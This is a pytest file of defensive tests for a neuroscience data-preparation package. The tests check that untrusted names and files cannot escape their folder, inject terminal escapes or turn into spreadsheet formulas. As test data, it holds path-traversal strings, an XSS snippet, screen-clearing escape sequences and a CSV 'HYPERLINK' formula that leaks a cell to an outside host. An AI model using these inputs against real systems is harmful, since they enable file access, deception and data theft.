"""Names from strangers: none leaves its folder, none is obeyed by a terminal, a browser or a spreadsheet."""

import csv
import json
import os
import re
from dataclasses import replace

import h5py
import numpy as np
import pytest

from data_prep.__main__ import main as data_prep
from neuromtm.data.manifest import folder_problems, read_manifest
from neuromtm.data.shards import read_header, shard_name, write_shard
from neuromtm.errors import ConfigError, ManifestError, ShardError, UserError, printable
from neuromtm.evaluation.results import read_metrics
from neuromtm.files import locked, read_table, table_text
from neuromtm.training.record_fields import record_problems
from tests.data.small_shards import Session, make_shard, ready, write_folder
from tests.running import refusal

ESCAPE = "\x1b]0;owned\x07\x1b[2J"
NOT_EIDS = (
    "../outside",
    "..",
    "a/b",
    "/tmp/outside",
    "a\\b",
    "a\0b",
    "a\nb",
    ESCAPE,
    "\u202emouse",
    "a" * 300,
    "",
    ".hidden",
    "con",
    "NUL",
    "com1.2026",
    "<script>alert(1)</script>",
)


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "data").mkdir()
    write_folder(tmp_path / "data", Session("a"), Session("b", role="heldout"))
    return tmp_path / "data"


def change_manifest(folder, **fields):
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["sessions"][0].update(fields)
    (folder / "manifest.json").write_text(json.dumps(manifest))


@pytest.mark.parametrize("eid", NOT_EIDS)
def test_an_eid_that_could_leave_its_folder_is_refused_everywhere(eid, folder, tmp_path):
    with pytest.raises(ConfigError, match="eid"):
        shard_name(eid)
    before = sorted(tmp_path.rglob("*"))
    shard = make_shard(Session("a"))
    if "\0" not in eid:  # HDF5 ends a text there
        with pytest.raises(ShardError, match="eid"):
            write_shard(folder / "new.h5", replace(shard, header=replace(shard.header, eid=eid)))
        with h5py.File(folder / "file0.h5", "r+") as file:
            file.attrs["eid"] = eid
        with pytest.raises(ShardError, match="eid"):
            read_header(folder / "file0.h5")
    change_manifest(folder, eid=eid)
    with pytest.raises(ManifestError, match=r"eid of session 1 is .*, not the name of a session"):
        ready(folder)
    session = {"eid": eid, "neurons": ["1"], "regions": ["CA1"]}
    assert "sessions is not a list of sessions, each with its eid, neurons and regions" in record_problems(
        {"sessions": [session]}
    )
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("file", ["../outside.h5", "/etc/hostname", "..", "", "a/../../b.h5", "a\0.h5", ["a.h5"], 7])
def test_a_manifest_names_no_file_outside_its_folder(file, folder):
    change_manifest(folder, file=file)
    with pytest.raises(ManifestError, match=r"file of session 1 is .*, not the name of a file in this folder"):
        read_manifest(folder)


def test_a_link_out_of_the_folder_is_not_followed(folder, tmp_path):
    (folder / "file0.h5").rename(tmp_path / "outside.h5")
    (folder / "file0.h5").symlink_to(tmp_path / "outside.h5")
    with pytest.raises(ShardError, match=r"file0\.h5: is a link out of its folder"):
        ready(folder)
    assert folder_problems(folder) == {
        "file0.h5": [
            f"{folder}/file0.h5: is a link out of its folder, which is not followed. Copy the file to this place."
        ]
    }


def test_a_link_within_the_folder_and_a_linked_folder_are_followed(folder, tmp_path):
    (folder / "file0.h5").rename(folder / "moved.h5")
    (folder / "file0.h5").symlink_to("moved.h5")
    (tmp_path / "link").symlink_to(folder)
    assert list(ready(tmp_path / "link").sessions) == ["a"]


def test_what_is_no_file_is_not_waited_for(folder):
    (folder / "file0.h5").unlink()
    os.mkfifo(folder / "file0.h5")
    with pytest.raises(ShardError, match="is no regular file"):
        ready(folder)
    assert list(folder_problems(folder)) == ["file0.h5"]


def test_a_manifest_that_is_nested_without_end_is_one_sentence(folder):
    (folder / "manifest.json").write_text("[" * 100_000)
    with pytest.raises(ManifestError, match="not a readable manifest"):
        read_manifest(folder)


@pytest.mark.parametrize("field", ["subject", "lab", "regions", "behaviors"])
def test_control_characters_of_a_manifest_are_refused(field, folder):
    change_manifest(
        folder, **{field: {ESCAPE: 1} if field == "regions" else [ESCAPE] if field == "behaviors" else ESCAPE}
    )
    with pytest.raises(ManifestError, match=f"{field} of session 1 is") as error:
        read_manifest(folder)
    assert "\x1b" not in str(error.value)


@pytest.mark.parametrize("place", ["subject", "lab", "uuid", "region", "probe", "behavior"])
def test_control_characters_of_a_shard_are_refused(place, folder, capsys):
    shard = make_shard(Session("a"))
    header = shard.header
    if place in ("subject", "lab"):
        changed = replace(shard, header=replace(header, **{place: f"mouse{ESCAPE}"}))
    elif place == "behavior":
        changed = replace(shard, behavior={ESCAPE: np.zeros((20, 4), np.float32)})
    else:
        names = np.array([*getattr(header.neurons, place)[:-1], ESCAPE])
        changed = replace(shard, header=replace(header, neurons=replace(header.neurons, **{place: names})))
    with pytest.raises(ShardError, match="holds control characters") as error:
        write_shard(folder / "new.h5", changed)
    assert "\x1b" not in str(error.value)


def test_what_a_program_says_of_a_strangers_file_moves_no_cursor(tmp_path, capsys):
    assert printable(f"a\tb\n{ESCAPE}é") == "a\tb\n\\x1b]0;owned\\x07\\x1b[2Jé"
    session = tmp_path / f"mouse{ESCAPE}"
    session.mkdir()
    assert data_prep(["arrays", "--folder", str(session), "--out", str(tmp_path / "out")]) == 2
    captured = capsys.readouterr()
    assert captured.err.startswith("neuromtm-prep: ")
    assert not re.search("[\x00-\x08\x0b-\x1f]", captured.out + captured.err)
    assert "\\x1b]0;owned" in refusal(capsys, "report", session)


def test_names_of_a_run_from_a_stranger_move_no_cursor(tmp_path):
    block = {"sessions": {ESCAPE: {"co_smoothing_bps": 0.1}}, "mean": {"co_smoothing_bps": 0.1}}
    (tmp_path / "metrics.json").write_text(json.dumps(block))
    with pytest.raises(UserError, match="holds control characters") as error:
        read_metrics(tmp_path)
    assert "\x1b" not in str(error.value)
    (tmp_path / "metrics.json").write_text("[" * 100_000)
    with pytest.raises(UserError, match="not a metrics file"):
        read_metrics(tmp_path)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_a_table_is_a_formula(sign, tmp_path):
    name = f'{sign}HYPERLINK("http://example.org?"&A1)'
    path = tmp_path / "table.csv"
    path.write_text(table_text(["eid", "region"], [[name, f"'{name}"]]), newline="")
    with path.open(newline="") as file:
        (_, cells) = csv.reader(file)
    assert all(cell.startswith("'") for cell in cells)
    assert read_table(path) == [{"eid": name, "region": f"'{name}"}]


def test_a_lock_that_is_a_link_does_not_empty_the_file_that_it_leads_to(tmp_path):
    (tmp_path / "kept").write_text("theirs")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / ".lock").symlink_to(tmp_path / "kept")
    with locked(tmp_path / "folder"):
        assert (tmp_path / "kept").read_text() == "theirs"
    assert (tmp_path / "kept").read_text() == "theirs"
